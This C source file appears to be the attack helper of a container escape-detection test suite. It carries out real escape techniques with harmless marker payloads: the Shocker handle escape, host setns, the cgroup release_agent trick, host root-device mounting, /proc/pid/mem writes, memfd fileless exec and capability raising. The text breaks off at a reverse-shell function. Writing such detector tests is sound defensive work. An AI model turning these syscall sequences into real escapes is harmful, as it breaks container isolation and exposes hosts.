// attack: the container escape and abuse techniques the escape-detection tests
// drive, each performed FOR REAL (the real syscalls) and harmlessly: payloads
// print or write markers, touch only scratch paths they create and remove, and
// restore anything they change (sysctls and cgroup files are written back with
// the bytes just read; /proc/sysrq-trigger is only opened; modules are invalid
// images the kernel refuses).
//
//   attack <technique> [args]        (attack list: the techniques and their args)
//
// Each technique prints one line
//   attack <technique>: <what it did> rc=<result> errno=<name or 0>
// (rc is the result of the technique's key syscall) and exits 0 once its
// syscalls were issued, allowed or not (the detector flags attempts); 1 when a
// preparation step failed before the technique's syscalls; 2 on a usage error.
// Techniques that exec a payload (drift-write, memfd-exec, reverse-shell*,
// setns-host) print their line before the exec; the payload prints
// "attack-marker <technique> ...".
//
// Statically linked: it runs inside busybox containers (installed as /attack,
// and as the setuid-root /suid of the "nonroot" flavour) and on the host
// (the "listen" helper, the fake runtime sockets).
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AF_BLUETOOTH
#define AF_BLUETOOTH 31
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

extern char **environ;

static const char *tech; // the technique being run, for report()

static const char *errname(int e)
{
	static char num[16];
	const char *n = strerrorname_np(e);

	if (n)
		return n;
	snprintf(num, sizeof(num), "%d", e);
	return num;
}

// The one line every technique prints. err is the errno of the key syscall
// (ignored when rc >= 0).
static void report(long rc, int err, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
static void report(long rc, int err, const char *fmt, ...)
{
	va_list ap;

	printf("attack %s: ", tech);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf(" rc=%ld errno=%s\n", rc, rc < 0 ? errname(err) : "0");
	fflush(stdout);
}

// A preparation step failed before the technique's syscalls: exit 1.
static int prep_failed(const char *what)
{
	int e = errno;

	printf("attack %s: preparation failed: %s rc=-1 errno=%s\n", tech, what, errname(e));
	fflush(stdout);
	return 1;
}

static int usage(const char *args)
{
	fprintf(stderr, "usage: attack %s %s\n", tech, args);
	return 2;
}

// Read up to size-1 bytes of a file; returns the count (-1 on error, errno set).
static ssize_t read_small(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	buf[n < 0 ? 0 : n] = '\0';
	return n;
}

static ssize_t write_small(const char *path, const char *buf, size_t len)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n;
	int e;

	if (fd < 0)
		return -1;
	n = write(fd, buf, len);
	e = errno;
	close(fd);
	errno = e;
	return n;
}

static int count_entries(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	int n = 0;

	if (!d)
		return -1;
	while ((de = readdir(d)))
		if (strcmp(de->d_name, ".") && strcmp(de->d_name, ".."))
			n++;
	closedir(d);
	return n;
}

// Copy a file's bytes into fd with read()/write(); returns bytes copied or -1.
static long copy_into(const char *src, int fd)
{
	char buf[65536];
	long total = 0;
	ssize_t n;
	int in = open(src, O_RDONLY | O_CLOEXEC);

	if (in < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		if (write(fd, buf, n) != n) {
			close(in);
			return -1;
		}
		total += n;
	}
	close(in);
	return n < 0 ? -1 : total;
}

// ---- escape -----------------------------------------------------------------

// Mount a filesystem on a fresh scratch directory, count its entries, unmount.
static int mount_and_count(const char *src, const char *dir, const char *type,
			   unsigned long flags, const char *data, const char *what)
{
	int rc, e, n = -1;

	mkdir(dir, 0755);
	rc = mount(src, dir, type, flags, data);
	e = errno;
	if (rc == 0) {
		n = count_entries(dir);
		umount2(dir, MNT_DETACH);
	}
	rmdir(dir);
	report(rc, e, "%s entries=%d", what, n);
	return 0;
}

static int t_mount_cgroup1(int argc, char **argv)
{
	const char *ctrl = argc > 1 ? argv[1] : "net_cls";
	char what[128];

	snprintf(what, sizeof(what), "mount(\"cgroup\", /tmp/bh-cg1, \"cgroup\", 0, \"%s\")", ctrl);
	return mount_and_count("cgroup", "/tmp/bh-cg1", "cgroup", 0, ctrl, what);
}

static int t_mount_proc(int argc, char **argv)
{
	(void)argc, (void)argv;
	return mount_and_count("proc", "/tmp/bh-proc", "proc", 0, NULL,
			       "mount(\"proc\", /tmp/bh-proc, \"proc\")");
}

static int t_mount_sysfs(int argc, char **argv)
{
	(void)argc, (void)argv;
	return mount_and_count("sysfs", "/tmp/bh-sysfs", "sysfs", 0, NULL,
			       "mount(\"sysfs\", /tmp/bh-sysfs, \"sysfs\")");
}

// mknod the host's root block device (numbers from the host) and mount it
// read-only. A read-write mounted file system refuses a read-only second
// mount (EBUSY) without changing anything.
static int t_mount_rootdev(int argc, char **argv)
{
	const char *node = "/dev/bh-rootdev", *dir = "/tmp/bh-rootdev";
	unsigned int maj, min;
	char what[160];

	if (argc < 3 || sscanf(argv[1], "%u:%u", &maj, &min) != 2)
		return usage("MAJOR:MINOR FSTYPE");
	unlink(node);
	if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) < 0)
		return prep_failed("mknod /dev/bh-rootdev");
	snprintf(what, sizeof(what), "mount(%s [%u:%u], %s, \"%s\", MS_RDONLY)", node, maj, min, dir, argv[2]);
	mount_and_count(node, dir, argv[2], MS_RDONLY, NULL, what);
	unlink(node);
	return 0;
}

// The new mount API: fsopen, fsconfig(CREATE), fsmount, move_mount.
static int t_fsmount(int argc, char **argv)
{
	const char *type = argc > 1 ? argv[1] : "tmpfs", *dir = "/tmp/bh-fsmount";
	int fs, mfd = -1, rc, e, n = -1;

	mkdir(dir, 0755);
	fs = fsopen(type, FSOPEN_CLOEXEC);
	rc = fs;
	e = errno;
	if (fs >= 0) {
		rc = fsconfig(fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0);
		e = errno;
	}
	if (rc >= 0) {
		rc = mfd = fsmount(fs, FSMOUNT_CLOEXEC, 0);
		e = errno;
	}
	if (rc >= 0) {
		rc = move_mount(mfd, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH);
		e = errno;
	}
	if (rc == 0) {
		n = count_entries(dir);
		umount2(dir, MNT_DETACH);
	}
	if (mfd >= 0)
		close(mfd);
	if (fs >= 0)
		close(fs);
	rmdir(dir);
	report(rc, e, "fsopen(\"%s\") fsconfig(CREATE) fsmount move_mount(%s) entries=%d", type, dir, n);
	return 0;
}

// pivot_root onto a directory that is not a mount point: the kernel refuses
// (EINVAL) after the syscall entered; nothing changes.
static int t_pivot_root(int argc, char **argv)
{
	long rc;
	int e;

	(void)argc, (void)argv;
	mkdir("/tmp/bh-pivot", 0755);
	mkdir("/tmp/bh-pivot/old", 0755);
	rc = syscall(SYS_pivot_root, "/tmp/bh-pivot", "/tmp/bh-pivot/old");
	e = errno;
	rmdir("/tmp/bh-pivot/old");
	rmdir("/tmp/bh-pivot");
	report(rc, e, "pivot_root(/tmp/bh-pivot, /tmp/bh-pivot/old)");
	return 0;
}

// Open a kernel knob for writing and write back exactly the bytes just read.
static int t_write_back(int argc, char **argv)
{
	char before[4096], after[4096];
	ssize_t n, w = 0;
	int fd, e;

	if (argc < 2)
		return usage("PATH");
	n = read_small(argv[1], before, sizeof(before));
	fd = open(argv[1], O_WRONLY | O_CLOEXEC);
	e = errno;
	if (fd >= 0 && n > 0) {
		w = write(fd, before, n);
		e = errno;
	}
	if (fd >= 0)
		close(fd);
	read_small(argv[1], after, sizeof(after));
	report(fd < 0 ? -1 : w, e, "open(%s, O_WRONLY) read %zd bytes, wrote the same %zd back, unchanged=%s",
	       argv[1], n, w, strcmp(before, after) ? "NO" : "yes");
	return 0;
}

// Open /proc/sysrq-trigger for writing and close it: never write.
static int t_sysrq_open(int argc, char **argv)
{
	int fd, e;

	(void)argc, (void)argv;
	fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "open(/proc/sysrq-trigger, O_WRONLY) then close, nothing written");
	return 0;
}

// "Shocker": a handle for inode 2 (the root directory) of the file system the
// container's root lives on, opened with open_by_handle_at: the host's root.
static int t_shocker(int argc, char **argv)
{
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} h;
	char names[256] = "";
	uint32_t ino2[2] = { 2, 0 }; // FILEID_INO32_GEN: inode 2, any generation
	int mnt_id, mfd, fd, e, type;
	DIR *d;
	struct dirent *de;

	(void)argc, (void)argv;
	memset(&h, 0, sizeof(h));
	h.fh.handle_bytes = MAX_HANDLE_SZ;
	type = name_to_handle_at(AT_FDCWD, "/etc/passwd", &h.fh, &mnt_id, 0) == 0 ? h.fh.handle_type : 1;
	h.fh.handle_type = type;
	h.fh.handle_bytes = sizeof(ino2);
	memcpy(h.fh.f_handle, ino2, sizeof(ino2));
	mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		return prep_failed("open /");
	fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
	e = errno;
	if (fd >= 0 && (d = fdopendir(fd))) {
		while ((de = readdir(d))) {
			size_t len = strlen(names), add = strlen(de->d_name);

			if (de->d_name[0] == '.' || len + add + 2 > sizeof(names))
				continue;
			if (len)
				names[len++] = ',';
			memcpy(names + len, de->d_name, add + 1);
		}
		closedir(d);
	} else if (fd >= 0) {
		close(fd);
	}
	close(mfd);
	report(fd, e, "open_by_handle_at(/, {type %d, inode 2}) host root entries=[%s]", type, names);
	return 0;
}

// setns into the namespaces of a host process (seen from a host-pid container;
// atk_run passes a sleep it started on the host: this machine's pid 1 is the
// VM's agent, closed even to root), then run the host's /bin/sh there.
static int t_setns_host(int argc, char **argv)
{
	static const struct { const char *name; int type; } ns[] = {
		{ "ipc", CLONE_NEWIPC }, { "uts", CLONE_NEWUTS }, { "net", CLONE_NEWNET },
		{ "pid", CLONE_NEWPID }, { "mnt", CLONE_NEWNS },
	};
	const char *pid = argc > 1 ? argv[1] : "1";
	int fds[5], ok = 0, rc = 0, e = 0, st;
	char path[64];
	pid_t child;

	for (int i = 0; i < 5; i++) {
		snprintf(path, sizeof(path), "/proc/%s/ns/%s", pid, ns[i].name);
		fds[i] = open(path, O_RDONLY | O_CLOEXEC);
		if (fds[i] < 0)
			return prep_failed(path);
	}
	for (int i = 0; i < 5; i++) {
		if (setns(fds[i], ns[i].type) == 0) {
			ok++;
		} else {
			rc = -1;
			e = errno;
		}
		close(fds[i]);
	}
	report(rc, e, "setns into /proc/%s/ns/{ipc,uts,net,pid,mnt}: %d of 5 joined, running /bin/sh there", pid, ok);
	child = fork();
	if (child == 0) {
		execl("/bin/sh", "sh", "-c",
		      "echo attack-marker setns-host hostname=$(cat /proc/sys/kernel/hostname)", (char *)NULL);
		_exit(127);
	}
	if (child > 0)
		waitpid(child, &st, 0);
	return 0;
}

// ---- cgroup-escape ----------------------------------------------------------

// The release_agent technique on a freshly mounted cgroup v1 hierarchy: a
// child with notify_on_release=1, release_agent written back with the bytes
// just read (no release is triggered: the child never holds a process).
static int t_release_agent(int argc, char **argv)
{
	const char *opts = argc > 1 ? argv[1] : "none,name=bhatk", *dir = "/tmp/bh-ra";
	char agent[4096];
	ssize_t n = -1, w = -1, nr = -1;
	int rc, e;

	mkdir(dir, 0755);
	rc = mount("cgroup", dir, "cgroup", 0, opts);
	e = errno;
	if (rc == 0) {
		mkdir("/tmp/bh-ra/bh-child", 0755);
		nr = write_small("/tmp/bh-ra/bh-child/notify_on_release", "1", 1);
		n = read_small("/tmp/bh-ra/release_agent", agent, sizeof(agent));
		if (n > 0) {
			w = write_small("/tmp/bh-ra/release_agent", agent, n);
			e = errno;
		}
		write_small("/tmp/bh-ra/bh-child/notify_on_release", "0", 1);
		rmdir("/tmp/bh-ra/bh-child");
		// The kernel frees the hierarchy at the unmount only when the root
		// has no child left, and a removed child leaves the list a little
		// later (asynchronously): unmounting at once would keep it alive.
		usleep(300 * 1000);
		umount2(dir, MNT_DETACH);
		rc = w < 0 ? -1 : 0;
	}
	rmdir(dir);
	report(rc, e, "mount(cgroup, \"%s\"), child notify_on_release=1 (wrote %zd), release_agent read %zd bytes "
	       "and wrote the same %zd back", opts, nr, n, w);
	return 0;
}

// notify_on_release of a cgroup v1 directory set to 1, then restored.
static int t_notify_on_release(int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : "/sys/fs/cgroup/memory";
	char path[512], before[64];
	ssize_t n, w;
	int e;

	snprintf(path, sizeof(path), "%s/notify_on_release", dir);
	n = read_small(path, before, sizeof(before));
	w = write_small(path, "1", 1);
	e = errno;
	if (n > 0)
		write_small(path, before, n);
	report(w, e, "write(\"1\") to %s, then restored \"%.*s\"", path, n > 0 ? (int)strcspn(before, "\n") : 0, before);
	return 0;
}

// This process's cgroup2 path (the "0::" line of /proc/self/cgroup) into buf.
static int cgroup2_path(char *buf, size_t size)
{
	char all[8192], *p;

	if (read_small("/proc/self/cgroup", all, sizeof(all)) < 0)
		return -1;
	p = strncmp(all, "0::", 3) == 0 ? all : strstr(all, "\n0::");
	if (!p)
		return -1;
	p += p == all ? 3 : 4;
	snprintf(buf, size, "%.*s", (int)strcspn(p, "\n"), p);
	return 0;
}

// Mount cgroup2 (no cgroup namespace: the real root), move this process into
// the root cgroup, check, and move it back into its own cgroup.
static int t_cgroup2_root(int argc, char **argv)
{
	const char *dir = "/tmp/bh-cg2";
	char own[4096], path[4200], pid[32], now[4096] = "?";
	ssize_t w = -1;
	int rc, e;

	(void)argc, (void)argv;
	if (cgroup2_path(own, sizeof(own)) < 0)
		return prep_failed("no 0:: line in /proc/self/cgroup");
	snprintf(pid, sizeof(pid), "%d", getpid());
	mkdir(dir, 0755);
	rc = mount("cgroup2", dir, "cgroup2", 0, NULL);
	e = errno;
	if (rc == 0) {
		w = write_small("/tmp/bh-cg2/cgroup.procs", pid, strlen(pid));
		e = errno;
		cgroup2_path(now, sizeof(now));
		snprintf(path, sizeof(path), "%s%s/cgroup.procs", dir, own);
		write_small(path, pid, strlen(pid));
		umount2(dir, MNT_DETACH);
		rc = w < 0 ? -1 : 0;
	}
	rmdir(dir);
	report(rc, e, "mount(cgroup2) + write pid to the root cgroup.procs (cgroup then: %s), moved back to %s",
	       now, own);
	return 0;
}

// ---- namespace-change -------------------------------------------------------

static int unshare_report(int flags, const char *what)
{
	int rc = unshare(flags), e = errno;

	report(rc, e, "unshare(%s)", what);
	return 0;
}

static int t_unshare_user(int argc, char **argv)
{
	(void)argc, (void)argv;
	return unshare_report(CLONE_NEWUSER, "CLONE_NEWUSER");
}

static int t_unshare_mnt(int argc, char **argv)
{
	(void)argc, (void)argv;
	return unshare_report(CLONE_NEWNS, "CLONE_NEWNS");
}

static int t_unshare_user_mnt(int argc, char **argv)
{
	(void)argc, (void)argv;
	return unshare_report(CLONE_NEWUSER | CLONE_NEWNS, "CLONE_NEWUSER|CLONE_NEWNS");
}

// clone(CLONE_NEWPID|CLONE_NEWNET): the child checks it is pid 1 and exits.
static int t_clone_ns(int argc, char **argv)
{
	long rc;
	int e, st = 0;

	(void)argc, (void)argv;
	rc = syscall(SYS_clone, CLONE_NEWPID | CLONE_NEWNET | SIGCHLD, NULL, NULL, NULL, 0);
	if (rc == 0)
		_exit(getpid() == 1 ? 0 : 1);
	e = errno;
	if (rc > 0)
		waitpid(rc, &st, 0);
	report(rc, e, "clone(CLONE_NEWPID|CLONE_NEWNET) child_was_pid1=%s",
	       rc > 0 && WIFEXITED(st) && WEXITSTATUS(st) == 0 ? "yes" : "no");
	return 0;
}

// setns into the UTS namespace of another process of the same container: PID,
// or a child this forks that makes its own UTS namespace named "bh-peer".
static int t_setns_peer(int argc, char **argv)
{
	int ready[2], done[2], fd, rc, e;
	char path[64], host[65] = "", c;
	pid_t peer = argc > 1 ? (pid_t)atoi(argv[1]) : 0, child = 0;

	if (!peer) {
		if (pipe(ready) < 0 || pipe(done) < 0)
			return prep_failed("pipe");
		child = fork();
		if (child < 0)
			return prep_failed("fork");
		if (child == 0) {
			close(done[1]);
			c = (unshare(CLONE_NEWUTS) == 0 && sethostname("bh-peer", 7) == 0) ? 'y' : 'n';
			if (write(ready[1], &c, 1) != 1 || read(done[0], &c, 1) < 0)
				_exit(1);
			_exit(0);
		}
		if (read(ready[0], &c, 1) != 1 || c != 'y') {
			kill(child, SIGKILL);
			waitpid(child, NULL, 0);
			return prep_failed("the peer could not make its UTS namespace");
		}
		close(done[0]);
		peer = child;
	}
	snprintf(path, sizeof(path), "/proc/%d/ns/uts", peer);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return prep_failed(path);
	rc = setns(fd, CLONE_NEWUTS);
	e = errno;
	close(fd);
	gethostname(host, sizeof(host) - 1);
	if (child) {
		close(done[1]);
		waitpid(child, NULL, 0);
	}
	report(rc, e, "setns(%s, CLONE_NEWUTS) hostname now \"%s\"", path, host);
	return 0;
}

// ---- kernel-module ----------------------------------------------------------

static int t_init_module(int argc, char **argv)
{
	unsigned char garbage[64];
	long rc;
	int e;

	(void)argc, (void)argv;
	memset(garbage, 0xa5, sizeof(garbage)); // not an ELF image: refused
	rc = syscall(SYS_init_module, garbage, sizeof(garbage), "");
	e = errno;
	report(rc, e, "init_module(64 garbage bytes)");
	return 0;
}

static int t_finit_module(int argc, char **argv)
{
	const char *path = "/tmp/bh-garbage.ko";
	unsigned char garbage[64];
	long rc;
	int fd, e;

	(void)argc, (void)argv;
	memset(garbage, 0xa5, sizeof(garbage));
	fd = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	if (fd < 0 || write(fd, garbage, sizeof(garbage)) != sizeof(garbage))
		return prep_failed(path);
	close(fd);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	rc = syscall(SYS_finit_module, fd, "", 0);
	e = errno;
	close(fd);
	unlink(path);
	report(rc, e, "finit_module(%s: 64 garbage bytes)", path);
	return 0;
}

static int t_bpf_map(int argc, char **argv)
{
	union bpf_attr attr;
	long fd;
	int e;

	(void)argc, (void)argv;
	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	fd = syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "bpf(BPF_MAP_CREATE, 1-entry array), closed");
	return 0;
}

// A socket of a family with no loaded protocol: the kernel asks for module
// "net-pf-<family>" (when it has loadable modules at all).
static int t_module_request(int argc, char **argv)
{
	int family = argc > 1 ? atoi(argv[1]) : AF_BLUETOOTH, fd, e;

	fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "socket(%d, SOCK_STREAM, 0) for module net-pf-%d", family, family);
	return 0;
}

// ---- ptrace -----------------------------------------------------------------

static int t_ptrace_attach(int argc, char **argv)
{
	char path[64], comm[64] = "?";
	pid_t pid;
	long rc;
	int e, st = 0, stopped = 0;

	if (argc < 2 || (pid = (pid_t)atoi(argv[1])) <= 0)
		return usage("PID");
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	read_small(path, comm, sizeof(comm));
	comm[strcspn(comm, "\n")] = '\0';
	rc = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
	e = errno;
	if (rc == 0) {
		stopped = waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	report(rc, e, "ptrace(PTRACE_ATTACH, %d [%s]) stopped=%s, detached", pid, comm, stopped ? "yes" : "no");
	return 0;
}

// A child holding a buffer; the parent writes into the child's copy (same
// address after fork) with write_fn and the child reports whether it saw it.
static char victim[32] = "original";

static int poke_child(long (*write_fn)(pid_t, const char *, size_t, int *), const char *what)
{
	int go[2], st = 0, e = 0;
	long rc;
	char c;
	pid_t child;

	if (pipe(go) < 0)
		return prep_failed("pipe");
	child = fork();
	if (child < 0)
		return prep_failed("fork");
	if (child == 0) {
		close(go[1]);
		if (read(go[0], &c, 1) < 0)
			_exit(2);
		_exit(strcmp(victim, "written") == 0 ? 0 : 1);
	}
	close(go[0]);
	rc = write_fn(child, "written", sizeof("written"), &e);
	close(go[1]);
	waitpid(child, &st, 0);
	report(rc, e, "%s into child %d: child saw the write=%s", what, child,
	       WIFEXITED(st) && WEXITSTATUS(st) == 0 ? "yes" : "no");
	return 0;
}

static long vm_write(pid_t pid, const char *data, size_t len, int *err)
{
	struct iovec local = { (void *)data, len }, remote = { victim, len };
	long rc = process_vm_writev(pid, &local, 1, &remote, 1, 0);

	*err = errno;
	return rc;
}

static long mem_write(pid_t pid, const char *data, size_t len, int *err)
{
	char path[64];
	long rc;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	*err = errno;
	if (fd < 0)
		return -1;
	rc = pwrite(fd, data, len, (off_t)(uintptr_t)victim);
	*err = errno;
	close(fd);
	return rc;
}

static int t_vm_writev(int argc, char **argv)
{
	(void)argc, (void)argv;
	return poke_child(vm_write, "process_vm_writev");
}

static int t_proc_mem_write(int argc, char **argv)
{
	(void)argc, (void)argv;
	return poke_child(mem_write, "open(/proc/<pid>/mem, O_RDWR) + pwrite");
}

// ---- runtime-socket ---------------------------------------------------------

static int t_connect_unix(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char reply[64] = "";
	ssize_t n;
	int fd, rc, e;

	if (argc < 2 || strlen(argv[1]) >= sizeof(sa.sun_path))
		return usage("SOCKET-PATH");
	strcpy(sa.sun_path, argv[1]);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return prep_failed("socket(AF_UNIX)");
	rc = connect(fd, (struct sockaddr *)&sa, sizeof(sa));
	e = errno;
	if (rc == 0 && (n = read(fd, reply, sizeof(reply) - 1)) > 0)
		reply[strcspn(reply, "\n")] = '\0';
	close(fd);
	report(rc, e, "connect(%s) reply=\"%s\"", argv[1], reply);
	return 0;
}

// Host helper: listen on unix sockets, answer "ok" to each connection.
// Runs until killed.
static int t_listen(int argc, char **argv)
{
	struct pollfd pfd[16];
	int n = 0;

	if (argc < 2 || argc > 17)
		return usage("SOCKET-PATH... (up to 16)");
	for (int i = 1; i < argc; i++) {
		struct sockaddr_un sa = { .sun_family = AF_UNIX };

		if (strlen(argv[i]) >= sizeof(sa.sun_path))
			return usage("SOCKET-PATH... (each under 108 bytes)");
		strcpy(sa.sun_path, argv[i]);
		unlink(argv[i]);
		pfd[n].fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		pfd[n].events = POLLIN;
		if (pfd[n].fd < 0 || bind(pfd[n].fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
		    listen(pfd[n].fd, 16) < 0)
			return prep_failed(argv[i]);
		n++;
	}
	report(0, 0, "listening on %d unix sockets", n);
	for (;;) {
		if (poll(pfd, n, -1) < 0 && errno != EINTR)
			return 1;
		for (int i = 0; i < n; i++) {
			int c;

			if (!(pfd[i].revents & POLLIN) || (c = accept(pfd[i].fd, NULL, NULL)) < 0)
				continue;
			if (write(c, "ok\n", 3) < 0) {
				// the client went away: nothing to do
			}
			close(c);
		}
	}
}

// ---- fileless-exec, drift ---------------------------------------------------

static int t_memfd_exec(int argc, char **argv)
{
	const char *src = argc > 1 ? argv[1] : "/bin/busybox";
	char *args[] = { "busybox", "echo", "attack-marker", "memfd-exec", NULL };
	long n;
	int fd, e;

	fd = memfd_create("bh-fileless", 0);
	if (fd < 0) {
		e = errno;
		report(fd, e, "memfd_create(\"bh-fileless\")");
		return 0;
	}
	if ((n = copy_into(src, fd)) <= 0)
		return prep_failed(src);
	report(fd, 0, "memfd_create(\"bh-fileless\") + %ld bytes of %s, execveat(fd, \"\", AT_EMPTY_PATH)", n, src);
	syscall(SYS_execveat, fd, "", args, environ, AT_EMPTY_PATH);
	e = errno;
	report(-1, e, "execveat of the memfd failed");
	return 0;
}

// A binary created after start by writing its bytes (not cp), made executable,
// run (argv[0] "busybox", so a busybox copy runs its echo applet).
static int t_drift_write(int argc, char **argv)
{
	const char *src = argc > 1 ? argv[1] : "/bin/busybox", *dst = argc > 2 ? argv[2] : "/tmp/busybox";
	char *args[] = { "busybox", "echo", "attack-marker", "drift-write", NULL };
	long n;
	int fd, e;

	unlink(dst);
	fd = open(dst, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || (n = copy_into(src, fd)) <= 0)
		return prep_failed(dst);
	fchmod(fd, 0755);
	close(fd);
	report(0, 0, "wrote %ld bytes of %s into %s, chmod 0755, execve(%s)", n, src, dst, dst);
	execve(dst, args, environ);
	e = errno;
	report(-1, e, "execve(%s) failed", dst);
	return 0;
}

// ---- sensitive-file ---------------------------------------------------------

static int t_read_file(int argc, char **argv)
{
	char buf[4096];
	size_t want;
	ssize_t n = -1;
	int fd, e;

	if (argc < 2)
		return usage("PATH [BYTES (default 16, at most 4096)]");
	want = argc > 2 ? (size_t)atoi(argv[2]) : 16;
	if (want > sizeof(buf))
		want = sizeof(buf);
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	e = errno;
	if (fd >= 0) {
		n = read(fd, buf, want);
		e = errno;
		close(fd);
	}
	report(fd < 0 ? -1 : n, e, "open(%s) read %zd of %zu bytes", argv[1], n, want);
	return 0;
}

// Open a file for writing (created empty if missing), write nothing; a file
// this created is removed again.
static int t_open_write(int argc, char **argv)
{
	int existed, fd, e;

	if (argc < 2)
		return usage("PATH");
	existed = access(argv[1], F_OK) == 0;
	fd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	e = errno;
	if (fd >= 0)
		close(fd);
	if (fd >= 0 && !existed)
		unlink(argv[1]);
	report(fd, e, "open(%s, O_WRONLY|O_CREAT) wrote nothing%s", argv[1],
	       fd >= 0 && !existed ? ", removed again" : "");
	return 0;
}

// ---- privilege-escalation ---------------------------------------------------

// setuid(0); as the setuid-root /suid run by a non-root user this succeeds
// (euid 0; the real uid stays without CAP_SETUID) and /tmp/bh-setuid0 is
// created, owned by uid 0.
static int t_setuid0(int argc, char **argv)
{
	uid_t ruid = getuid(), euid = geteuid();
	int rc, e, fd;

	(void)argc, (void)argv;
	rc = setuid(0);
	e = errno;
	if (rc == 0 && (fd = open("/tmp/bh-setuid0", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644)) >= 0) {
		if (write(fd, "uid0\n", 5) < 0) {
			// the marker is informational
		}
		close(fd);
	}
	report(rc, e, "setuid(0) as uid=%d euid=%d, now uid=%d euid=%d", ruid, euid, getuid(), geteuid());
	return 0;
}

// capset raising CAP_SYS_ADMIN in the permitted and effective sets.
static int t_capset(int argc, char **argv)
{
	struct __user_cap_header_struct hdr = { _LINUX_CAPABILITY_VERSION_3, 0 };
	struct __user_cap_data_struct data[2];
	long rc;
	int e;

	(void)argc, (void)argv;
	memset(data, 0, sizeof(data));
	if (syscall(SYS_capget, &hdr, data) < 0)
		return prep_failed("capget");
	data[0].permitted |= 1u << CAP_SYS_ADMIN;
	data[0].effective |= 1u << CAP_SYS_ADMIN;
	rc = syscall(SYS_capset, &hdr, data);
	e = errno;
	report(rc, e, "capset(+CAP_SYS_ADMIN in permitted and effective)");
	return 0;
}

static int t_userfaultfd(int argc, char **argv)
{
	struct uffdio_api api = { .api = UFFD_API };
	long fd;
	int e, api_rc = -1;

	(void)argc, (void)argv;
	fd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);
	e = errno;
	if (fd >= 0) {
		api_rc = ioctl(fd, UFFDIO_API, &api);
		close(fd);
	}
	report(fd, e, "userfaultfd(O_CLOEXEC|O_NONBLOCK|UFFD_USER_MODE_ONLY) UFFDIO_API=%d, closed", api_rc);
	return 0;
}

static int t_keyctl(int argc, char **argv)
{
	long id, rev = -1;
	int e;

	(void)argc, (void)argv;
	id = syscall(SYS_add_key, "user", "bh-attack-key", "x", 1, KEY_SPEC_SESSION_KEYRING);
	e = errno;
	if (id >= 0) {
		rev = syscall(SYS_keyctl, KEYCTL_REVOKE, id);
		syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_SESSION_KEYRING);
	}
	report(id, e, "add_key(\"user\", \"bh-attack-key\") to the session keyring, revoked=%s, unlinked",
	       rev == 0 ? "yes" : "no");
	return 0;
}

static int t_io_uring(int argc, char **argv)
{
	struct io_uring_params p;
	long fd;
	int e;

	(void)argc, (void)argv;
	memset(&p, 0, sizeof(p));
	fd = syscall(SYS_io_uring_setup, 4, &p);
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "io_uring_setup(4), closed");
	return 0;
}

// ---- reverse-shell ----------------------------------------------------------

static int reverse_shell(int argc, char **argv, int use_dup3)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
